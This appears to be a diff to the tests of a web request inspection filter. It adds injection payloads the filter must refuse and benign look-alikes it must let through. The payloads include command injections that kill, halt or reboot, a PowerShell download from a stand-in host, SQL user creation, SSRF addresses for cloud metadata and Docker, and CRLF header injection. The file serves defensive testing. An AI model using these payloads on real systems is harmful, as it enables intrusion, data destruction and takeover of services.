@@ -30,6 +30,13 @@ KINDS = {
     "graph": ["MATCH (n) DETACH DELETE n", "match (a)-[r]->(b) delete r", "' RETURN n UNION MATCH (m:User) RETURN m//", "'}) RETURN n //", "LOAD CSV FROM 'http://e.vil' AS x RETURN x", "CALL dbms.procedures()", "MERGE (n:Admin {name:'x'})", "UNWIND range(1,2) AS x RETURN x", "g.V().drop()", "g.V(1).properties()", "').iterate();g.V().drop()", "g.addV('user').property('admin',true)"],
     "document store": ['{"$lookup":{"from":"users"}}', '{"$out":"x"}', '{"$merge":{"into":"x"}}', 'EVAL "return 1" 0', "CONFIG GET *"],
     "XPath": ["'] | //user/*[1]|a['", "')] | //node()[('", '"] | //password | a["', "' | //user/*[1]|a['"],
+    "end of a condition": ["1 or 2#", "1 or 2-- ", "1 or not 2", "7 and not 8", "1 or 1 limit 1", "1 or /*+ hint */ true", " AND 50=CONVERT(INT,(SELECT CHAR(88)))", "|| 1==1"],
+    "signal behind a word": ["foo; kill 1", "foo && kill -9 1", "shop; halt", "a.txt; touch x", "foo || reboot", "foo; shutdown now"],
+    "command between two line breaks": ["\\n/bin/ls -al\\n", "\\nid;", ";id\\n", "|usr/bin/id\\n", "'\n/bin/ls -al\n'"],
+    "command of Windows": ["| type %SYSTEMROOT%\\repair\\SYSTEM", '; reg add "HKLM\\System\\x" /v a /d 0', "Invoke-WebRequest http://e.vil/x.ps1", "Invoke-Expression -Command x.ps1", "; regedit /E c:\\ads\\file.txt:x.reg HKEY_CURRENT_USER\\X"],
+    "change of a table": ["ALTER TABLE `a` ADD `b` TEXT CHARACTER SET latin1", "'create user name identified by 'pass123' --", "password::int", "x(1)::double precision"],
+    "address of a cloud's metadata": ["http://metadata.google.internal/computeMetadata/v1beta1/project/", "http://127.0.0.1:2375/v1.24/containers/json"],
+    "pieces of a program": ["process[req.query.a", "( string ) \"sys\".\"t\".\"em\" ('uname');", '{"a": "$7:Module:prototype"}', "/usr/bin/perl -e 'print readline' a.txt", "c99 -wrapper sh,-c,id ."],
     "address of IPv4 within IPv6": ["http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/a", "http://[0:0:0:0:0:ffff:7f00:1]/", "http://[::127.0.0.1]/", "http://[::ffff:10.0.0.5]/"],
 }  # fmt: skip
 
@@ -55,6 +62,8 @@ def test_a_short_attack_is_refused(inspection: Inspection, kind: str) -> None:
         *("It's like 'that'", "I'd like 'em", "'like' button", "the 'like' count", "1; call mom", "2; set the table", "begin; then go", "no. 1; use it"),
         *("match (football)", "Match (n.) a game", "merge (the) lists", "call me", "return n", "unwind and relax", "the g.v. value", "e.g. V(x)"),
         *("http://[2001:db8::1]/", "//book | //cd", "config get started", "evaluate \"return\" policies", "iex stock exchange"),
+        *("18 CREATE GOLD", "DANCIN' LIKE A ROBOT ON FIRE", '"///', 'XSERVING"; ";PLATTER"; ";VINTAGE";', "shop.example'*" + "'" * 30),
+        *("from memory", "process [required]", "tea or not 2 late", "stop; think", "we reg add you", "alter table seating", "std::vector", "a::b"),
         *("St. Mary; Ed", "3.5; 4.0", "a/b; c/d", "text/html; q=0.9", "v1.2 | changes"),
     ],
 )  # fmt: skip
@@ -66,6 +75,18 @@ def test_what_is_written_with_the_same_words_passes(inspection: Inspection, text
         )
         document = json.dumps({"n": 7, name: text}).encode()
         assert not inspection.body(document, content_type="application/json")
+
+
+@pytest.mark.parametrize("query", ["a%0d%0aX-A:%201=1", "b=2&%0d%0restofdata", "a%0D%0ASet-Cookie"])
+def test_a_line_break_in_the_name_of_a_parameter_is_refused(
+    inspection: Inspection, query: str
+) -> None:
+    assert inspection.head(environ(query=query))
+
+
+@pytest.mark.parametrize("name", ["mosConfig_absolute_path", "_CONF[path]", "GLOBALS[x]"])
+def test_a_variable_of_an_old_program_is_refused(inspection: Inspection, name: str) -> None:
+    assert inspection.head(environ(query=f"{quote(name)}=https://a.example"))
 
 
 @pytest.mark.parametrize("header", ["HTTP_IF_NONE_MATCH", "HTTP_IF_MATCH", "HTTP_IF_RANGE"])
